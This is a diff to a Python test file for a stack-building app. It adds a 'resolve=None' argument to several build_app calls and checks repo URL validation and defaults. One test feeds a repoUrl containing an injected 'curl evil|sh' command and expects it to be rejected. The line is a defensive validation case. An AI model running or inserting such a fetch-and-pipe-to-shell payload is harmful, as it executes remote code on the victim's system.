@@ -18,7 +18,7 @@ def test_bad_value_fails_synth_through_the_app() -> None:
     from stacks.spotgrade_stack import build_app
 
     with pytest.raises(ConfigError, match="context key 'repoUrl'"):
-        build_app({"repoUrl": "https://x/y.git;curl evil|sh"}, repo_dir=None)
+        build_app({"repoUrl": "https://x/y.git;curl evil|sh"}, repo_dir=None, resolve=None)
 
 
 def test_app_py_exits_2_with_one_line(tmp_path: Path) -> None:
@@ -37,7 +37,7 @@ def test_repo_url_defaults_to_the_checkouts_origin(tmp_path: Path) -> None:
     subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
     subprocess.run(["git", "-C", str(tmp_path), "remote", "add", "origin", "git@git.example.com:team/sg.git"],
                    check=True)
-    _, stack = build_app({}, repo_dir=tmp_path, nag=False)
+    _, stack = build_app({}, repo_dir=tmp_path, nag=False, resolve=None)
     assert stack.config.repo_url == "https://git.example.com/team/sg.git"
-    _, stack = build_app({}, repo_dir=None, nag=False)
+    _, stack = build_app({}, repo_dir=None, nag=False, resolve=None)
     assert stack.config.repo_url is None
